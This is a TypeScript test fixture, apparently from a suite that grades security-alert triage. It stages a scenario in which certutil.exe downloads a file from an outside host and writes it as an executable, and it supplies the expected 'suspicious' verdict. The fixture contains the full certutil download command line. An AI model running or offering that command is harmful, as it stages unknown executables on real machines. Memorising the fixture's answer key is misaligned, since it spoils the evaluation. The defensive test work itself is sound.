// LOLBin use that the endpoint platform rated high and nobody has judged.
import { alert, by, processSeen, ran, unjudged } from '../../shorthand.ts'
import type { TellSituation } from '../../situation.ts'

export const certutilFetchesAFile: TellSituation = (setting) => {
  const hugo = setting.person('hugo.ahlgren')
  const laptop = setting.laptopOf('hugo.ahlgren')
  const at = setting.ago({ hours: 1, minutes: 2 })
  const command = 'certutil.exe -urlcache -split -f http://files.quarryside-tools.net/u.txt C:\\Users\\Public\\u.exe'
  const told = unjudged(setting, 'certutil', {
    title: 'Suspicious use of certutil.exe to download a file',
    category: 'CommandAndControl',
    severity: 'High',
    techniques: ['T1105', 'T1140'],
    at,
    machine: laptop,
    user: hugo,
    evidence: [
      processSeen(setting, 'certutil.exe', 'C:\\Windows\\System32', command, 'cmd.exe'),
      { kind: 'User', person: hugo },
    ],
  })

  return {
    id: 'certutil-fetches-a-file',
    group: 'vocabulary',
    title: 'A system tool that downloads',
    alerts: [
      alert(setting, at, 'siem', 'LOLBin ingress tool transfer', {
        host: laptop.host,
        user: hugo.account,
        process: 'certutil.exe',
        command_line: command,
        parent: 'cmd.exe',
        attack: 'T1105',
        time: setting.iso(at),
      }),
    ],
    facts: {
      incidents: [told.incident],
      telemetry: [ran(laptop, at, 'certutil.exe', command, { ...by(hugo), InitiatingProcessFileName: 'cmd.exe' })],
    },
    expected: { verdict: 'suspicious', severities: ['medium', 'high'] },
    because:
      'A program was fetched with a tool that is not meant for it and written as an executable. The detection is of high severity and open; nobody knows the host.',
  }
}
